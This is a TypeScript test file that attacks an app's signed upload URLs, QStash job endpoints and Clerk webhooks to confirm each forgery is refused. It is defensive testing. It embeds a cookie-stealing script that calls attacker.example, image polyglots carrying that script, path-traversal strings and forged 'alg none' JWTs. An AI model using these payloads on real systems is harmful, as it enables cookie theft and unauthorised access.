import { env } from "cloudflare:test";
import { asc, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { jobRuns, magicOpeners, openerGenerations, sessionImages, sessions, suggestionGenerations, suggestions, users, webhookEvents } from "../../src/db/schema";
import { toBase64Url } from "../../src/lib/encoding";
import { jobUrl } from "../../src/lib/jobs";
import { createUploadUrl } from "../../src/modules/uploads/service";
import { roomStub } from "../../src/realtime/rooms";
import { call, callAs, clearBucket, clerkId, json, putUpload, resetDatabase, signedInUser, storedKeys, testConfig, testDb, uploadGrant } from "../helpers";
import { pngBytes } from "../images";
import { deliver, resetQStash, signed } from "../jobs";
import { type ApiDocument, rows } from "../routes";
import { clerkUser, signedWebhook } from "../webhooks";
import { randomIp } from "../ws";
import { answerOf, attackLog, dispatch, inPool, roomNamed } from "./attacks";
import { CANARY } from "./leaks";

// Attacks on the endpoints a signature opens instead of a bearer token (SPEC §4, §7, §11).
//
// Uploads (`PUT /uploads/:key`): polyglot files, a Content-Length that lies, a body cut short,
// path traversal in keys, a URL used twice or after it expired, a URL of another user's. Each
// must be refused with the uploads module's catalog code and leave nothing in R2 and no upload
// row; the one a signature check cannot refuse (an image with something appended) must be stored
// as the signed image type only, and be served back by no route. Uploads go through SELF: their
// bytes must cross the runtime's HTTP layer.
//
// QStash deliveries to every `/jobs/*` the API document lists, and Clerk's Svix-signed webhooks,
// with a tampered body, a signature for another URL, a stale or early one, another key's, none at
// all — refused before anything is parsed, with no side effect — and genuine messages delivered
// again (the same message id, or a captured signature under a new one), which must not act twice.

const encoder = new TextEncoder();
const bytes = (...parts: Array<string | number[] | Uint8Array>) => {
  const chunks = parts.map((part) => (typeof part === "string" ? encoder.encode(part) : Uint8Array.from(part)));
  const out = new Uint8Array(chunks.reduce((sum, chunk) => sum + chunk.length, 0));
  let at = 0;
  for (const chunk of chunks) {
    out.set(chunk, at);
    at += chunk.length;
  }
  return out;
};
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const SCRIPT = `<script>fetch("https://attacker.example/?${CANARY}="+document.cookie)</script>`;
const ZIP = bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0], "payload.html", SCRIPT);

/** Whether an upload row for this key holds (or is receiving) an upload. */
async function uploadRowOf(key: string) {
  const [row] = await testDb().select().from(sessionImages).where(eq(sessionImages.r2Key, key));
  return row && (row.uploadedAt !== null || row.receivingAt !== null || row.sha256 !== null) ? row : undefined;
}

/** What a refused upload left behind: an R2 object or an upload row for its key, if any. */
async function leftBehind(key: string): Promise<string | undefined> {
  if ((await env.IMAGES.head(key)) !== null) return "an R2 object";
  if (await uploadRowOf(key)) return "an upload row";
  return undefined;
}

/** Every stored object must be one a test meant to store. */
async function strayObjects(expected: Set<string>): Promise<string | undefined> {
  const stray = (await storedKeys()).filter((key) => !expected.has(key));
  return stray.length > 0 ? `R2 holds ${stray.length} object(s) no accepted upload wrote` : undefined;
}

/** An upload URL's signed query on another path. */
const withPath = (url: string, path: string) => `${path}${new URL(url).search}`;

describe("upload attacks", () => {
  let user: { token: string; userId: string };
  let other: { token: string; userId: string };
  /** Objects an accepted (legitimate) upload of this file wrote. */
  const stored = new Set<string>();

  beforeAll(async () => {
    await resetDatabase();
    await clearBucket();
    user = await signedInUser();
    other = await signedInUser();
  });

  it("refuses polyglots whose bytes are not the signed image type (422), and keeps an image with something appended as that image only", async ({ task }) => {
    const attacks = attackLog();
    const polyglots: Array<[what: string, type: string, body: Uint8Array]> = [
      ["HTML declared as PNG", "image/png", bytes(`<!doctype html><html>${SCRIPT}</html>`, "x".repeat(64))],
      ["a ZIP declared as PNG", "image/png", ZIP],
      ["a GIF/JavaScript polyglot declared as PNG", "image/png", bytes(`GIF89a/*${"\0".repeat(8)}*/=1;${SCRIPT}`)],
      ["an SVG declared as PNG", "image/png", bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${CANARY}')"/>`)],
      ["a PDF declared as PNG", "image/png", bytes("%PDF-1.7\n", SCRIPT)],
      ["a JPEG declared as PNG", "image/png", bytes([0xff, 0xd8, 0xff, 0xe0], "x".repeat(60))],
      ["a PNG declared as JPEG", "image/jpeg", pngBytes(256)],
      ["a PNG declared as WebP", "image/webp", pngBytes(256)],
      ["a WAV (RIFF, not WEBP) declared as WebP", "image/webp", bytes("RIFF", [0, 1, 0, 0], "WAVEfmt ", "x".repeat(48))],
      ["an MP4 (ftyp mp42) declared as HEIC", "image/heic", bytes([0, 0, 0, 0x18], "ftypmp42", "x".repeat(52))],
      ["HTML with the PNG signature cut to 7 bytes", "image/png", bytes(PNG_SIGNATURE.slice(0, 7), SCRIPT)],
      ["the PNG signature alone, 8 bytes", "image/png", bytes(PNG_SIGNATURE)],
    ];
    for (const [what, type, body] of polyglots) {
      const grant = await uploadGrant(other.token, type, body.length);
      const answer = await answerOf(await putUpload(grant.uploadUrl, body, { "Content-Type": type }));
      attacks.refused(`PUT ${what}`, answer, { status: 422, code: "INVALID_IMAGE" });
      attacks.effect(`${what}: storage`, await leftBehind(grant.key));
    }

    // A real image, declared under another type in the request than the one signed.
    const png = bytes(PNG_SIGNATURE, pngBytes(512).subarray(8), SCRIPT);
    for (const contentType of ["text/html", "image/svg+xml", "application/zip", "image/png, text/html"]) {
      const grant = await uploadGrant(other.token, "image/png", png.length);
      const answer = await answerOf(await putUpload(grant.uploadUrl, png, { "Content-Type": contentType }));
      attacks.refused(`PUT a PNG sent as ${contentType}`, answer, { status: 415, code: "UNSUPPORTED_MEDIA_TYPE" });
      attacks.effect(`a PNG sent as ${contentType}: storage`, await leftBehind(grant.key));
    }

    // PNG, JPEG and ZIP with HTML and JavaScript appended: their signatures are real, so the
    // bytes are kept — as the signed type, which is all any reader of the object is told.
    const appended: Array<[string, string, Uint8Array]> = [
      ["a PNG with HTML and JavaScript appended", "image/png", png],
      ["a PNG with a ZIP appended", "image/png", bytes(pngBytes(512), ZIP)],
      ["a JPEG with HTML appended", "image/jpeg", bytes([0xff, 0xd8, 0xff, 0xe0], "x".repeat(200), [0xff, 0xd9], `<html>${SCRIPT}</html>`)],
    ];
    for (const [what, type, body] of appended) {
      const grant = await uploadGrant(other.token, type, body.length);
      const put = await putUpload(grant.uploadUrl, body, { "Content-Type": type });
      expect(put.status, what).toBe(201);
      stored.add(grant.key);
      const object = await env.IMAGES.head(grant.key);
      attacks.judged(`PUT ${what}: its stored type`, object?.httpMetadata?.contentType === type ? undefined : `stored as ${object?.httpMetadata?.contentType}`);
      // No route hands the bytes back (the app never fetches an upload): not by its URL, nor signed.
      for (const method of ["GET", "HEAD"]) {
        const served = await call(new URL(grant.uploadUrl).pathname + new URL(grant.uploadUrl).search, { method });
        attacks.judged(`${method} ${what}`, served.status === 404 ? undefined : `served ${served.status} ${served.headers.get("Content-Type")}`);
        await served.body?.cancel();
      }
    }
    attacks.effect("stray objects after the polyglots", await strayObjects(stored));
    attacks.settle(task);
  });

  it("refuses a Content-Length that lies about the body, or a body cut short, storing nothing and freeing the key", async ({ task }) => {
    const attacks = attackLog();
    const size = 2048;
    const body = pngBytes(size);
    /** A body stream of `chunks`, one per read, then an error when `fail` is set (the client went away). */
    const stream = (chunks: Uint8Array[], fail = false) => {
      const left = [...chunks];
      return new ReadableStream<Uint8Array>({
        pull(controller) {
          const chunk = left.shift();
          if (chunk) controller.enqueue(chunk);
          else if (fail) controller.error(new Error("connection lost"));
          else controller.close();
        },
      });
    };
    const lies: Array<[what: string, headers: Record<string, string>, body: () => BodyInit, expected: { status: number; code: string }]> = [
      ["a Content-Length larger than signed", { "Content-Length": String(size + 1) }, () => bytes(body, [0]), { status: 413, code: "PAYLOAD_TOO_LARGE" }],
      ["a Content-Length smaller than signed", { "Content-Length": String(size - 1) }, () => body.subarray(0, size - 1), { status: 400, code: "UPLOAD_LENGTH_MISMATCH" }],
      ["the signed Content-Length over a shorter body", { "Content-Length": String(size) }, () => stream([body.subarray(0, 1000)]), { status: 400, code: "UPLOAD_LENGTH_MISMATCH" }],
      ["the signed Content-Length over a longer body", { "Content-Length": String(size) }, () => stream([body, body.subarray(0, 100)]), { status: 413, code: "PAYLOAD_TOO_LARGE" }],
      ["a body cut short mid-stream", { "Content-Length": String(size) }, () => stream([body.subarray(0, 1000)], true), { status: 400, code: "UPLOAD_LENGTH_MISMATCH" }],
      ["a body cut short before its first byte", { "Content-Length": String(size) }, () => stream([], true), { status: 400, code: "UPLOAD_LENGTH_MISMATCH" }],
      ["a non-numeric Content-Length", { "Content-Length": "2k" }, () => body, { status: 411, code: "LENGTH_REQUIRED" }],
      ["a negative Content-Length", { "Content-Length": "-2048" }, () => body, { status: 411, code: "LENGTH_REQUIRED" }],
      ["two Content-Lengths", { "Content-Length": `${size}, ${size + 1}` }, () => body, { status: 411, code: "LENGTH_REQUIRED" }],
      ["no Content-Length (chunked)", {}, () => stream([body.subarray(0, 1000), body.subarray(1000)]), { status: 411, code: "LENGTH_REQUIRED" }],
    ];
    for (const [what, headers, makeBody, expected] of lies) {
      const grant = await uploadGrant(user.token, "image/png", size);
      const answer = await answerOf(await putUpload(grant.uploadUrl, makeBody(), { "Content-Type": "image/png", ...headers }));
      attacks.refused(`PUT ${what}`, answer, expected);
      attacks.effect(`${what}: storage`, await leftBehind(grant.key));
      // The key stays free: the honest body still goes in on the same URL.
      const honest = await putUpload(grant.uploadUrl, body);
      expect(honest.status, `${what}, then the honest body`).toBe(201);
      stored.add(grant.key);
    }
    attacks.effect("stray objects after the lies", await strayObjects(stored));
    attacks.settle(task);
  });

  it("refuses path traversal and another user's prefix in the key (403), writing nowhere", async ({ task }) => {
    const attacks = attackLog();
    const grant = await uploadGrant(user.token, "image/png", 1024);
    const path = new URL(grant.uploadUrl).pathname;
    const random = path.split("/").at(-1)!;
    const mine = `/api/v1/uploads/u/${user.userId}`;
    const traversals: Array<[string, string]> = [
      ["../ into another user's prefix", `${mine}/../${other.userId}/${random}`],
      ["..%2f into another user's prefix", `${mine}/..%2f${other.userId}%2f${random}`],
      ["%2e%2e%2f into another user's prefix", `${mine}/%2e%2e%2f${other.userId}%2f${random}`],
      ["%2e%2e/ segments", `${mine}/%2e%2e/%2e%2e/${other.userId}/${random}`],
      ["double-encoded %252e%252e%252f", `${mine}/%252e%252e%252f${other.userId}%252f${random}`],
      ["backslashes", `/api/v1/uploads/u\\${user.userId}\\..\\${other.userId}\\${random}`],
      ["%5c-encoded backslashes", `${mine}%5c..%5c${other.userId}%5c${random}`],
      ["a NUL byte before the extension", `${mine}/${random.replace(".png", "%00.png")}`],
      ["a second extension", `${mine}/${random}.html`],
      ["a deeper path", `${mine}/sub/${random}`],
      ["an absolute key", `/api/v1/uploads//u/${other.userId}/${random}`],
      ["the key under another user's prefix", `/api/v1/uploads/u/${other.userId}/${random}`],
      ["the bucket's root", `/api/v1/uploads/${random}`],
      ["a key outside u/", `/api/v1/uploads/tips/${random}`],
    ];
    for (const [what, target] of traversals) {
      const answer = await answerOf(await call(withPath(grant.uploadUrl, target), { method: "PUT", headers: { "Content-Type": "image/png" }, body: pngBytes(1024) }));
      attacks.refused(`PUT a key with ${what}`, answer, { status: 403, code: "UPLOAD_URL_INVALID" });
    }
    attacks.effect("the granted key after the traversals", await leftBehind(grant.key));
    attacks.effect("stray objects after the traversals", await strayObjects(stored));
    const otherRows = await testDb().select().from(sessionImages).where(eq(sessionImages.userId, other.userId));
    attacks.effect("the other user's upload rows", otherRows.some((row) => row.uploadedAt !== null && !stored.has(row.r2Key)) ? "one was written" : undefined);
    attacks.settle(task);
  });

  it("refuses a URL used again (409), after it expired (403), or taken over for another user (403); another user's key names no upload (404)", async ({ task }) => {
    const attacks = attackLog();
    // Used again: after its upload, after the upload joined a session, and twice at once.
    const grant = await uploadGrant(user.token, "image/png", 1024);
    const first = pngBytes(1024);
    expect((await putUpload(grant.uploadUrl, first)).status).toBe(201);
    stored.add(grant.key);
    const second = pngBytes(1024);
    second[100] = 42;
    attacks.refused("PUT the same URL again", await answerOf(await putUpload(grant.uploadUrl, second)), { status: 409, code: "UPLOAD_ALREADY_EXISTS" });
    const session = await json<{ id: string }>(await callAs(user.token, "/api/v1/sessions", { method: "POST", json: { type: "screenshot", imageKeys: [grant.key] } }));
    expect(session.success).toBe(true);
    attacks.refused("PUT the URL of an image already in a session", await answerOf(await putUpload(grant.uploadUrl, second)), { status: 409, code: "UPLOAD_ALREADY_EXISTS" });
    const kept = new Uint8Array(await (await env.IMAGES.get(grant.key))!.arrayBuffer());
    attacks.effect("the first image", kept.length === 1024 && kept[100] === first[100] ? undefined : "overwritten");

    const raced = await uploadGrant(user.token, "image/png", 1024);
    const statuses = (await Promise.all([putUpload(raced.uploadUrl, pngBytes(1024)), putUpload(raced.uploadUrl, pngBytes(1024))])).map((response) => response.status);
    stored.add(raced.key);
    attacks.judged("PUT one URL twice at once", statuses.sort().join(",") === "201,409" ? undefined : `answered ${statuses.join(",")}`);

    // Expired, tampered, or with another user's name in it.
    const expired = await createUploadUrl(testConfig(), user.userId, { contentType: "image/png", size: 1024 }, Date.now() - 301_000);
    attacks.refused("PUT a URL past its expiry", await answerOf(await putUpload(expired.uploadUrl, pngBytes(1024))), { status: 403, code: "UPLOAD_URL_INVALID" });
    attacks.effect("the expired URL's key", await leftBehind(expired.key));

    const mine = await uploadGrant(user.token, "image/png", 1024);
    const theirs = await uploadGrant(other.token, "image/png", 1024);
    const takeovers: Array<[string, string]> = [
      ["my signature on another user's key", withPath(mine.uploadUrl, new URL(theirs.uploadUrl).pathname)],
      ["another user's signature on my key", withPath(theirs.uploadUrl, new URL(mine.uploadUrl).pathname)],
      ["my URL moved under another user's prefix", withPath(mine.uploadUrl, new URL(mine.uploadUrl).pathname.replace(`/u/${user.userId}/`, `/u/${other.userId}/`))],
      ["my URL with its expiry moved a minute on", `${new URL(mine.uploadUrl).pathname}?${new URLSearchParams({ ...Object.fromEntries(new URL(mine.uploadUrl).searchParams), expires: String(Number(new URL(mine.uploadUrl).searchParams.get("expires")) + 60) }).toString()}`],
    ];
    for (const [what, target] of takeovers) {
      const answer = await answerOf(await call(target, { method: "PUT", headers: { "Content-Type": "image/png" }, body: pngBytes(1024) }));
      attacks.refused(`PUT ${what}`, answer, { status: 403, code: "UPLOAD_URL_INVALID" });
    }
    attacks.effect("my key after the take-overs", await leftBehind(mine.key));
    attacks.effect("their key after the take-overs", await leftBehind(theirs.key));

    // The other user's finished upload: its key is no upload of mine, for a session or an opener.
    const theirUpload = await uploadGrant(other.token, "image/png", 1024);
    expect((await putUpload(theirUpload.uploadUrl, pngBytes(1024))).status).toBe(201);
    stored.add(theirUpload.key);
    for (const [what, key] of [["another user's upload", theirUpload.key], ["another user's unused URL's key", theirs.key]] as const) {
      attacks.refused(
        `POST /api/v1/sessions with ${what}`,
        await answerOf(await callAs(user.token, "/api/v1/sessions", { method: "POST", json: { type: "screenshot", imageKeys: [key] } })),
        { status: 404, code: "UPLOAD_NOT_FOUND" },
      );
      attacks.refused(
        `POST /api/v1/magic-openers/generate with ${what}`,
        await answerOf(await callAs(user.token, "/api/v1/magic-openers/generate", { method: "POST", json: { profile: { bio: `Climber ${CANARY}`, photoKey: key } } })),
        { status: 404, code: "UPLOAD_NOT_FOUND" },
      );
    }
    const [theirRow] = await testDb().select().from(sessionImages).where(eq(sessionImages.r2Key, theirUpload.key));
    attacks.effect("the other user's upload", theirRow?.sessionId === null && theirRow.userId === other.userId ? undefined : "taken");

    // A URL of an account deleted since it was issued: the account's images are going, not coming.
    const leaving = await signedInUser();
    const leavingGrant = await uploadGrant(leaving.token, "image/png", 1024);
    expect((await callAs(leaving.token, "/api/v1/users/me", { method: "DELETE" })).status).toBe(200);
    attacks.refused("PUT the URL of an account deleted since", await answerOf(await putUpload(leavingGrant.uploadUrl, pngBytes(1024))), { status: 403, code: "UPLOAD_URL_INVALID" });
    attacks.effect("the deleted account's key", await leftBehind(leavingGrant.key));

    attacks.effect("stray objects after the replays", await strayObjects(stored));
    attacks.settle(task);
  });
});

const nowSeconds = () => Math.floor(Date.now() / 1000);
const segment = (value: unknown) => toBase64Url(encoder.encode(JSON.stringify(value)));

/** A job delivery dispatched in-process (see `dispatch`): the job attacks send hundreds. */
const deliverJob = (path: string, body: string, signature: string | undefined, messageId?: string, retried = 0) => deliver(path, body, signature, messageId, retried, dispatch);

/** Every row a job or a webhook could write, and the jobs it recorded. */
async function effects() {
  const db = testDb();
  return JSON.stringify([
    await rows(),
    await db.select().from(jobRuns).orderBy(asc(jobRuns.messageId)),
    await db.select().from(users).orderBy(asc(users.id)),
    await db.select().from(webhookEvents).orderBy(asc(webhookEvents.svixId)),
  ]);
}

/** A queued opener generation and a generating session with a queued suggestion generation: work a delivery that got through would do. */
async function queuedWork() {
  const { token, userId } = await signedInUser();
  const created = await json<{ id: string }>(
    await callAs(token, "/api/v1/sessions", { method: "POST", json: { type: "text", messages: [{ sender: "match", text: `Tacos or ramen? ${CANARY}` }, { sender: "user", text: `Ramen, always ${CANARY}` }] } }),
  );
  if (!created.success) throw new Error(`no session: ${JSON.stringify(created)}`);
  await testDb().update(sessions).set({ status: "generating" }).where(eq(sessions.id, created.data.id));
  const [suggestion] = await testDb().insert(suggestionGenerations).values({ sessionId: created.data.id, count: 2, tone: "playful" }).returning();
  const [opener] = await testDb()
    .insert(openerGenerations)
    .values({ userId, profile: { name: "Sam", bio: `Bouldering on weekends ${CANARY}`, interests: ["climbing"] }, tone: "witty", count: 2 })
    .returning();
  return { token, userId, sessionId: created.data.id, suggestionGenerationId: suggestion!.id, openerGenerationId: opener!.id };
}

/** A body for each job that would act on `work` if it got through (clock-driven jobs take `{}`). */
function bodyFor(name: string, work: Awaited<ReturnType<typeof queuedWork>>): string {
  switch (name) {
    case "openers":
      return JSON.stringify({ generationId: work.openerGenerationId });
    case "suggestions":
      return JSON.stringify({ generationId: work.suggestionGenerationId });
    case "ocr":
      return JSON.stringify({ sessionId: work.sessionId });
    case "purge-account":
    case "tip-delivery":
      return JSON.stringify({ userId: work.userId });
    case "failed":
      return failureCallback("suggestions", { generationId: work.suggestionGenerationId });
    default:
      return "{}";
  }
}

/** QStash's failure callback for a message of `job` carrying `payload`. */
function failureCallback(job: string, payload: unknown): string {
  return JSON.stringify({
    status: 500,
    retried: 3,
    maxRetries: 3,
    sourceMessageId: `msg_${crypto.randomUUID()}`,
    url: jobUrl(testConfig(), job),
    method: "POST",
    sourceBody: btoa(JSON.stringify(payload)),
    body: btoa("{}"),
    createdAt: Date.now(),
  });
}

describe("signed endpoint attacks", () => {
  let jobs: string[];

  beforeAll(async () => {
    await resetDatabase();
    await resetQStash();
    const document = (await (await call("/api/v1/openapi.json")).json()) as ApiDocument;
    jobs = document.paths["/jobs/{name}"]?.post?.parameters?.find((parameter) => parameter.name === "name")?.schema?.enum ?? [];
    expect(jobs).toEqual(expect.arrayContaining(["failed", "openers", "suggestions", "ocr"]));
  });

  it("refuses every forged, misdirected, stale or missing signature on every job, 401 JOB_SIGNATURE_INVALID, doing nothing", async ({ task }) => {
    const attacks = attackLog();
    const work = await queuedWork();
    const before = await effects();
    const cases = await Promise.all(
      jobs.map(async (name) => {
        const url = jobUrl(testConfig(), name);
        const body = bodyFor(name, work);
        const other = jobs.find((candidate) => candidate !== name)!;
        const now = nowSeconds();
        const hash = toBase64Url(new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(body))));
        const genuine = await signed({ url, body });
        const [header, , signature] = genuine.split(".") as [string, string, string];
        const attempts: Array<[what: string, signature: string | undefined, sent: string]> = [
          ["no signature", undefined, body],
          ["not a JWT", "not.a.jwt", body],
          ["alg none", `${segment({ alg: "none", typ: "JWT" })}.${segment({ iss: "Upstash", sub: url, body: hash, iat: now, nbf: now, exp: now + 300 })}.`, body],
          ["a tampered body", genuine, body.replace(/.$/, " }").replace(/^\{\}$/, '{"at":"2000-01-01T00:00:00Z"}')],
          ["a signature whose claims were edited", `${header}.${segment({ iss: "Upstash", sub: url, body: toBase64Url(new Uint8Array(32)), iat: now, nbf: now, exp: now + 300 })}.${signature}`, body],
          [`the signature of /jobs/${other}`, await signed({ url: jobUrl(testConfig(), other), body }), body],
          ["the signature of the same path on another host", await signed({ url: url.replace(/^https?:\/\/[^/]+/, "https://attacker.example"), body }), body],
          ["the signature of the URL with a query", await signed({ url: `${url}?replay=1`, body }), body],
          ["an expired signature", await signed({ url, body, nowSeconds: now - 3600 }), body],
          ["a signature not valid for an hour", await signed({ url, body, nowSeconds: now + 3600 }), body],
          ["another key's signature", await signed({ url, body, key: "not-the-signing-key" }), body],
          ["a signature keyed with the QStash token", await signed({ url, body, key: env.QSTASH_TOKEN! }), body],
          ["another issuer", await signed({ url, body, issuer: "Attacker" }), body],
        ];
        return attempts.map(([what, sig, sent]) => ({ name, what, sig, sent }));
      }),
    );
    await inPool(cases.flat(), 4, async ({ name, what, sig, sent }) => {
      const answer = await answerOf(await deliverJob(`/jobs/${name}`, sent, sig));
      attacks.refused(`POST /jobs/${name} with ${what}`, answer, { status: 401, code: "JOB_SIGNATURE_INVALID" });
    });
    // A Clerk webhook's signature is no QStash signature either.
    const webhook = signedWebhook({ type: "user.deleted", data: { id: clerkId(), deleted: true, object: "user" } });
    attacks.refused("POST /jobs/purge-users with a Clerk webhook's signature", await answerOf(await call("/jobs/purge-users", webhook.init)), { status: 401, code: "JOB_SIGNATURE_INVALID" });
    attacks.effect("rows after the job attacks", (await effects()) === before ? undefined : "a refused delivery wrote something");
    attacks.settle(task);
  });

  it("lets a job message act once: the same message id again, its captured signature under new ids, at once, and a late failure callback change nothing", async ({ task }) => {
    const attacks = attackLog();
    const work = await queuedWork();
    const targets = [
      { name: "openers", body: JSON.stringify({ generationId: work.openerGenerationId }), room: roomNamed("openerGeneration", work.openerGenerationId) },
      { name: "suggestions", body: JSON.stringify({ generationId: work.suggestionGenerationId }), room: roomNamed("session", work.sessionId) },
    ];
    for (const target of targets) {
      const url = jobUrl(testConfig(), target.name);
      const signature = await signed({ url, body: target.body });
      const messageId = `msg_${crypto.randomUUID()}`;
      const first = await deliverJob(`/jobs/${target.name}`, target.body, signature, messageId);
      expect(first.status, `the genuine ${target.name} delivery`).toBe(200);
      const before = await effects();
      const eventsBefore = (await roomStub(env, target.room).eventsAfter(0)).length;

      const replays: Array<[string, () => Promise<Response[]>]> = [
        ["the same message again", async () => [await deliverJob(`/jobs/${target.name}`, target.body, signature, messageId, 1)]],
        ["the same message id, signed afresh", async () => [await deliverJob(`/jobs/${target.name}`, target.body, await signed({ url, body: target.body }), messageId, 2)]],
        ["its captured signature under a new message id", async () => [await deliverJob(`/jobs/${target.name}`, target.body, signature)]],
        ["its captured signature under two new ids at once", () => Promise.all([deliverJob(`/jobs/${target.name}`, target.body, signature), deliverJob(`/jobs/${target.name}`, target.body, signature)])],
      ];
      for (const [what, replay] of replays) {
        const statuses = (await replay()).map((response) => response.status);
        attacks.judged(`POST /jobs/${target.name}: ${what}`, statuses.every((status) => status === 200) ? undefined : `answered ${statuses.join(",")}`);
      }
      // QStash's failure callback arriving after the work completed (a late or replayed one).
      const callback = failureCallback(target.name, JSON.parse(target.body));
      const callbackSignature = await signed({ url: jobUrl(testConfig(), "failed"), body: callback });
      for (const attempt of [1, 2]) {
        const answer = await deliverJob("/jobs/failed", callback, callbackSignature, `msg_${crypto.randomUUID()}`);
        attacks.judged(`POST /jobs/failed for completed ${target.name} work (${attempt})`, answer.status === 200 ? undefined : `answered ${answer.status}`);
      }
      const after = await effects();
      // job_runs gains a row per new message id; nothing else may change.
      const withoutRuns = (text: string) => JSON.stringify((JSON.parse(text) as unknown[]).filter((_, i) => i !== 1));
      attacks.effect(`${target.name}: rows after the replays`, withoutRuns(after) === withoutRuns(before) ? undefined : "the work was done again");
      const eventsAfter = (await roomStub(env, target.room).eventsAfter(0)).length;
      attacks.effect(`${target.name}: room events after the replays`, eventsAfter === eventsBefore ? undefined : `${eventsAfter - eventsBefore} more`);
    }
    const [opener] = await testDb().select().from(openerGenerations).where(eq(openerGenerations.id, work.openerGenerationId));
    const [suggestion] = await testDb().select().from(suggestionGenerations).where(eq(suggestionGenerations.id, work.suggestionGenerationId));
    expect([opener?.status, suggestion?.status]).toEqual(["completed", "completed"]);
    expect(await testDb().select().from(magicOpeners).where(eq(magicOpeners.generationId, work.openerGenerationId))).toHaveLength(2);
    expect(await testDb().select().from(suggestions).where(eq(suggestions.generationId, work.suggestionGenerationId))).toHaveLength(2);
    attacks.settle(task);
  });

  it("refuses every forged, stale or missing Clerk webhook signature, 400 WEBHOOK_SIGNATURE_INVALID, writing nothing; a replay acts once", async ({ task }) => {
    const attacks = attackLog();
    const id = clerkId();
    const payload = { type: "user.created", data: clerkUser(id, { first_name: `Robin ${CANARY}` }) };
    const post = (init: RequestInit, path = "/api/webhooks/clerk") =>
      dispatch(path, { ...init, headers: { ...(init.headers as Record<string, string>), "CF-Connecting-IP": randomIp() } });
    const genuine = signedWebhook(payload);
    const headers = genuine.init.headers;
    const otherMessage = signedWebhook({ type: "user.deleted", data: { id, deleted: true, object: "user" } });
    const without = (name: string) => Object.fromEntries(Object.entries(headers).filter(([key]) => key !== name));
    const otherSecret = `whsec_${btoa("another secret entirely, 32 bytes")}`;
    const before = await effects();

    const attempts: Array<[string, RequestInit]> = [
      ["a tampered body", { ...genuine.init, body: genuine.init.body.replace("Robin", "Mallory") }],
      ["another secret's signature", signedWebhook(payload, { secret: otherSecret }).init],
      ["a signature ten minutes old", signedWebhook(payload, { timestamp: new Date(Date.now() - 10 * 60_000) }).init],
      ["a signature ten minutes ahead", signedWebhook(payload, { timestamp: new Date(Date.now() + 10 * 60_000) }).init],
      ["the signature of another message", { ...genuine.init, headers: { ...headers, "svix-signature": otherMessage.init.headers["svix-signature"] } }],
      ["its signature under a new svix-id", { ...genuine.init, headers: { ...headers, "svix-id": `msg_${crypto.randomUUID()}` } }],
      ["its signature under a new timestamp", { ...genuine.init, headers: { ...headers, "svix-timestamp": String(nowSeconds() + 1) } }],
      ["no svix-signature", { ...genuine.init, headers: without("svix-signature") }],
      ["no svix-id", { ...genuine.init, headers: without("svix-id") }],
      ["no svix-timestamp", { ...genuine.init, headers: without("svix-timestamp") }],
      ["a signature of another scheme", { ...genuine.init, headers: { ...headers, "svix-signature": headers["svix-signature"].replace(/^v1,/, "v1a,") } }],
      ["a garbage signature list", { ...genuine.init, headers: { ...headers, "svix-signature": "v1,AAAA v1,BBBB v2,CCCC" } }],
      ["a QStash signature instead", { ...genuine.init, headers: { ...without("svix-signature"), "Upstash-Signature": await signed({ url: "http://127.0.0.1:8787/api/webhooks/clerk", body: genuine.init.body }) } }],
    ];
    for (const [what, init] of attempts) {
      attacks.refused(`POST /api/webhooks/clerk with ${what}`, await answerOf(await post(init)), { status: 400, code: "WEBHOOK_SIGNATURE_INVALID" });
    }
    // The genuine delivery at a URL it was not sent to.
    attacks.refused("the genuine webhook at /api/webhooks/other", await answerOf(await post(genuine.init, "/api/webhooks/other")), { status: 404, code: "NOT_FOUND" });
    attacks.refused("the genuine webhook at /jobs/purge-users", await answerOf(await post(genuine.init, "/jobs/purge-users")), { status: 401, code: "JOB_SIGNATURE_INVALID" });
    attacks.effect("rows after the webhook attacks", (await effects()) === before ? undefined : "a refused webhook wrote something");

    // The genuine one acts once; delivered again (even twice at once) it is a no-op.
    expect((await answerOf(await post(genuine.init))).status).toBe(200);
    await testDb().update(users).set({ firstName: "Changed in the app" }).where(eq(users.clerkId, id));
    const replays = await Promise.all([post(genuine.init), post(genuine.init), post(genuine.init)].map(async (response) => answerOf(await response)));
    for (const replay of replays) {
      attacks.judged("the same webhook again", (replay.body as { data?: { duplicate?: boolean } }).data?.duplicate === true ? undefined : `answered ${JSON.stringify(replay.body)}`);
    }
    const [row] = await testDb().select().from(users).where(eq(users.clerkId, id));
    attacks.effect("the user after the replays", row?.firstName === "Changed in the app" ? undefined : "the profile was written again");
    attacks.effect("webhook events after the replays", (await testDb().select().from(webhookEvents)).length === 1 ? undefined : "recorded twice");
    attacks.settle(task);
  });
});
